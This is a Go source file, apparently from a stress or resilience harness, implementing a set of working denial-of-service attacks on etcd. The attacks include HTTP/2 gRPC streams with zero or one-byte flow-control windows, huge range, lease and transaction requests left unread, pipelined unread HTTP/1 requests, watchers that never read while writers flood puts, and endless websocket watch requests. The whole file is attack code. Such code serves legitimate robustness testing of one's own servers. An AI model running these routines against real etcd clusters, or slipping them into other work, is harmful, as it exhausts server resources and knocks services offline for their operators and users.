package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/sync/errgroup"

	pb "go.etcd.io/etcd/api/v3/etcdserverpb"
	"google.golang.org/protobuf/proto"
)

const (
	// streamsEach is the number of concurrent calls per attacker.
	streamsEach = 8
	// streamsMany is that number in attacks by the number of streams.
	streamsMany = 40
	// writers is the number of concurrent writers, since each waits for the disk.
	writers = 32
)

func marshal(m proto.Message) []byte {
	bytes, err := proto.Marshal(m)
	if err != nil {
		panic(err)
	}
	return message(0, uint32(len(bytes)), bytes)
}

// everything returns a request for all keys that fill put.
func everything() []byte { return marshal(everythingRange()) }

func everythingRange() *pb.RangeRequest {
	return &pb.RangeRequest{Key: []byte("filled/"), RangeEnd: []byte("filled0")}
}

// zeroWindow requests long responses with a flow-control window of zero.
func zeroWindow(ctx context.Context, t *target, v volume, tally *tally) error {
	ask := everything()
	return runAttackers(ctx, v, tally, func(ctx context.Context, _ *pace, _ int) error {
		s, err := t.session(ctx, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer s.conn.Close()
		for range streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.KV/Range", false), true, ask)
			tally.did.Add(1)
		}
		if err := s.flush(); err != nil {
			return err
		}
		return held(ctx, s.conn)
	})
}

// waitingRequests has more unread responses on each connection than the server permits, and then
// sends puts, which wait until the client reads. They have no key, so that none is executed.
func waitingRequests(ctx context.Context, t *target, v volume, tally *tally) error {
	ask, put := everything(), marshal(&pb.PutRequest{Value: make([]byte, megabyte)})
	return runAttackers(ctx, v, tally, func(ctx context.Context, _ *pace, _ int) error {
		s, err := t.session(ctx, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer s.conn.Close()
		if err := s.follow(); err != nil {
			return err
		}
		for range 2 * streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.KV/Range", false), true, ask)
		}
		for left := v.bytes; left > len(put); left -= len(put) {
			id := s.call("/etcdserverpb.KV/Put", false)
			s.windows.open(id)
			if err := errors.Join(s.flush(), s.send(id, put)); err != nil && !errors.Is(err, errRefused) {
				return err
			}
			s.framer.WriteData(id, true, nil)
			tally.did.Add(1)
		}
		<-ctx.Done()
		return s.flush()
	})
}

// longCall is a call whose response has all keys that fill put.
type longCall struct {
	path string
	ask  []byte
}

func longRange() longCall { return longCall{"/etcdserverpb.KV/Range", everything()} }

// longLeaseKeys requests the keys of a lease. Their names are long, so the response is too.
func longLeaseKeys() longCall {
	ask := marshal(&pb.LeaseTimeToLiveRequest{ID: filledLease, Keys: true})
	return longCall{"/etcdserverpb.Lease/LeaseTimeToLive", ask}
}

// longTxn requests the same range as longRange in a transaction.
func longTxn() longCall {
	read := &pb.RequestOp{Request: &pb.RequestOp_RequestRange{RequestRange: everythingRange()}}
	return longCall{"/etcdserverpb.KV/Txn", marshal(&pb.TxnRequest{Success: []*pb.RequestOp{read}})}
}

// unreadAnswers requests one very long response per connection and does not read it.
func unreadAnswers(ctx context.Context, t *target, v volume, tally *tally) error {
	return unread(ctx, t, v, tally, longRange())
}

// unreadLeaseKeys does so with the keys of a lease.
func unreadLeaseKeys(ctx context.Context, t *target, v volume, tally *tally) error {
	return unread(ctx, t, v, tally, longLeaseKeys())
}

// unreadStreams requests a streamed range on many streams of each connection, and takes none of it.
func unreadStreams(ctx context.Context, t *target, v volume, tally *tally) error {
	return unreadOnStreams(ctx, t, v, tally, streamsMany, longCall{"/etcdserverpb.KV/RangeStream", everything()})
}

// unreadWrites does so with writes that return all keys.
func unreadWrites(ctx context.Context, t *target, v volume, tally *tally) error {
	put := &pb.RequestOp{Request: &pb.RequestOp_RequestPut{RequestPut: &pb.PutRequest{Key: []byte("written")}}}
	read := &pb.RequestOp{Request: &pb.RequestOp_RequestRange{RequestRange: everythingRange()}}
	ask := marshal(&pb.TxnRequest{Success: []*pb.RequestOp{put, read}})
	return unreadOnStreams(ctx, t, v, tally, streamsEach, longCall{"/etcdserverpb.KV/Txn", ask})
}

// unreadOnStreams makes a call on several streams of each connection, with a flow-control window of
// zero.
func unreadOnStreams(ctx context.Context, t *target, v volume, tally *tally, streams int, call longCall) error {
	return runAttackers(ctx, v, tally, func(ctx context.Context, _ *pace, _ int) error {
		s, err := t.session(ctx, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		if err != nil {
			return err
		}
		defer s.conn.Close()
		for range streams {
			s.framer.WriteData(s.call(call.path, false), true, call.ask)
			tally.did.Add(1)
		}
		if err := s.flush(); err != nil {
			return err
		}
		return held(ctx, s.conn)
	})
}

// unreadFromProxy makes every call that a proxy answers with a long response.
func unreadFromProxy(ctx context.Context, t *target, v volume, tally *tally) error {
	return unread(ctx, t, v, tally, longRange(), longLeaseKeys(), longTxn())
}

// unread makes one of the calls on each connection, and does not read the response.
func unread(ctx context.Context, t *target, v volume, tally *tally, calls ...longCall) error {
	return runAttackers(ctx, v, tally, func(ctx context.Context, _ *pace, n int) error {
		call := calls[n%len(calls)]
		s, err := t.session(ctx, tally)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		s.framer.WriteData(s.call(call.path, false), true, call.ask)
		if err := s.flush(); err != nil {
			return err
		}
		tally.did.Add(1)
		return held(ctx, s.conn)
	})
}

// oneByteWindow reads long responses one byte at a time; one of its connections overflows a window.
func oneByteWindow(ctx context.Context, t *target, v volume, tally *tally) error {
	ask := everything()
	return runAttackers(ctx, v, tally, func(ctx context.Context, pace *pace, n int) error {
		s, err := t.session(ctx, tally, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
		if err != nil {
			return err
		}
		defer s.conn.Close()
		s.drain()
		for range streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.KV/Range", false), true, ask)
		}
		for pace.wait(ctx, streamsEach) {
			for id := uint32(1); id < 2*streamsEach; id += 2 {
				s.framer.WriteWindowUpdate(id, 1)
			}
			if n == 0 {
				s.framer.WriteWindowUpdate(0, 1<<31-1)
			}
			if err := s.flush(); err != nil {
				return err
			}
			tally.did.Add(streamsEach)
		}
		return nil
	})
}

// unreadPages pipelines HTTP/1 requests for pages and reads none of the responses.
func unreadPages(ctx context.Context, t *target, v volume, tally *tally) error {
	asks := strings.Repeat("GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", 16)
	return runAttackers(ctx, v, tally, func(ctx context.Context, pace *pace, _ int) error {
		conn, err := t.connect(ctx, tally)
		if err != nil {
			return err
		}
		defer conn.Close()
		for pace.wait(ctx, 16) {
			if _, err := io.WriteString(conn, asks); err != nil {
				return err
			}
			tally.did.Add(16)
		}
		return nil
	})
}

// watchedPrefix is the prefix of the keys that deafWatcher watches.
const watchedPrefix = "watched/"

// deafWatcher watches and never reads, while writers put values of 1 kB.
func deafWatcher(ctx context.Context, t *target, v volume, tally *tally) error {
	var writing sync.WaitGroup
	var writeErr error
	writing.Go(func() { writeErr = t.write(ctx, v.perSecond, tally) })
	create := marshal(&pb.WatchRequest{RequestUnion: &pb.WatchRequest_CreateRequest{
		CreateRequest: &pb.WatchCreateRequest{Key: []byte(watchedPrefix), RangeEnd: []byte("watched0")},
	}})
	err := runAttackers(ctx, v, tally, func(ctx context.Context, _ *pace, _ int) error {
		s, err := t.session(ctx, tally)
		if err != nil {
			return err
		}
		defer s.conn.Close()
		// A small socket buffer leaves the data with the server.
		if tcp, ok := s.conn.(*net.TCPConn); ok {
			tcp.SetReadBuffer(4 * kilobyte)
		}
		for range streamsEach {
			s.framer.WriteData(s.call("/etcdserverpb.Watch/Watch", false), false, create)
		}
		if err := s.flush(); err != nil {
			return err
		}
		<-ctx.Done()
		return nil
	})
	writing.Wait()
	return errors.Join(err, writeErr)
}

// write puts values of 1 kB.
func (t *target) write(ctx context.Context, perSecond int, tally *tally) error {
	conn, err := t.grpc()
	if err != nil {
		return err
	}
	defer conn.Close()
	pace, value := newPace(perSecond), make([]byte, kilobyte)
	// A put in flight completes even after the end of the attack.
	putCtx, cancel := context.WithTimeout(context.WithoutCancel(ctx), serverTimeout)
	defer cancel()
	group, groupCtx := errgroup.WithContext(putCtx)
	for writer := range writers {
		group.Go(func() error {
			for n := 0; pace.wait(ctx, 1); n++ {
				put := &pb.PutRequest{Key: fmt.Appendf(nil, "%s%d/%d", watchedPrefix, writer, n%100), Value: value}
				if _, err := pb.NewKVClient(conn).Put(groupCtx, put); err != nil {
					return err
				}
				tally.did.Add(1)
			}
			return nil
		})
	}
	return group.Wait()
}

// websockets creates more and more watchers over websockets, where the server offers them, and
// reads nothing.
func websockets(ctx context.Context, t *target, v volume, tally *tally) error {
	create := maskedFrame([]byte(`{"create_request":{"key":"YmVoYXZlcy8=","range_end":"YmVoYXZlczA="}}`))
	return runAttackers(ctx, v, tally, func(ctx context.Context, pace *pace, _ int) error {
		conn, err := t.connect(ctx, tally)
		if err != nil {
			return err
		}
		defer conn.Close()
		_, err = io.WriteString(conn, "GET /v3/watch HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"+
			"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
		if err != nil {
			return err
		}
		answer, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err != nil {
			return err
		}
		if answer.StatusCode != http.StatusSwitchingProtocols {
			return errors.New(answer.Status)
		}
		for pace.wait(ctx, 1) {
			if _, err := conn.Write(create); err != nil {
				return err
			}
			tally.did.Add(1)
		}
		return nil
	})
}

// maskedFrame returns a text frame of a websocket client, masked with zeros.
func maskedFrame(text []byte) []byte {
	const textFrame, masked = 0x81, 0x80
	return append([]byte{textFrame, masked | byte(len(text)), 0, 0, 0, 0}, text...)
}
